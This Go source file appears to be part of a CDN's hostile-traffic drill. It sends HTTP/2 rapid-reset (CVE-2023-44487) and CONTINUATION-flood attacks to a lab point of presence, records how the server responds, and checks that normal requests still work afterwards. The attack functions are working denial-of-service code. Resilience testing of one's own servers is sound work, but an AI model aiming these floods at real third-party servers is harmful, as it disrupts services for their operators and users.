package drill

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"sort"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/edgecdn/cdn/bench"
)

// The HTTP/2 attacks of the hostile drill: rapid reset (CVE-2023-44487)
// and a CONTINUATION flood, each on a raw connection.

// An h2 attack writes frames on a fresh connection.
type h2Frames func(fr *http2.Framer, headers func() []byte) int

func rapidReset(fr *http2.Framer, headers func() []byte) int {
	n := 0
	for i := uint32(1); i < 4000; i += 2 {
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: i, BlockFragment: headers(), EndStream: true, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(i, http2.ErrCodeCancel) != nil {
			break
		}
		n += 2
	}
	return n
}

func continuationFlood(fr *http2.Framer, headers func() []byte) int {
	if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers(), EndHeaders: false}) != nil {
		return 0
	}
	junk := bytes.Repeat([]byte{0x40, 0x01, 'x', 0x01, 'y'}, 3000)
	n := 1
	for range 200 {
		if fr.WriteContinuation(1, false, junk) != nil {
			break
		}
		n++
	}
	return n
}

// h2Attack runs one attack and reports what the PoP answered (frames by
// type, a GOAWAY's code, how the connection ended), then the status of a
// normal request on a new connection.
func h2Attack(ctx context.Context, c bench.LabClient, popAddr string, roots *tls.Config, host string, attack h2Frames) (string, string) {
	conn, err := dialTLS(ctx, c, popAddr, roots, "h2")
	if err != nil {
		return "dial: " + err.Error(), ""
	}
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(conn, http2.ClientPreface)
	fr := http2.NewFramer(conn, conn)
	fr.WriteSettings()
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	headers := func() []byte {
		buf.Reset()
		for _, kv := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", "/gen/1k"}} {
			enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
		}
		return append([]byte(nil), buf.Bytes()...)
	}
	// Read what the server says while writing, so neither side blocks.
	frames := map[string]int{}
	var goaway string
	var rd sync.WaitGroup
	rd.Go(func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			frames[f.Header().Type.String()]++
			if g, ok := f.(*http2.GoAwayFrame); ok {
				goaway = g.ErrCode.String()
			}
		}
	})
	start := time.Now()
	sent := attack(fr, headers)
	conn.SetReadDeadline(time.Now().Add(2 * time.Second)) // drain until the PoP hangs up or goes quiet
	rd.Wait()
	conn.Close()
	keys := make([]string, 0, len(frames))
	for k, v := range frames {
		keys = append(keys, fmt.Sprintf("%s %d", k, v))
	}
	sort.Strings(keys)
	what := fmt.Sprintf("%d frames sent in %v, PoP sent %v", sent, time.Since(start).Round(time.Millisecond), keys)
	if goaway != "" {
		what += ", GOAWAY " + goaway
	}
	o := fetch(ctx, popClient(c, popAddr, roots, false), "https://"+host+"/gen/1k")
	if o.err != nil {
		return what, "error: " + o.err.Error()
	}
	return what, fmt.Sprint(o.status)
}
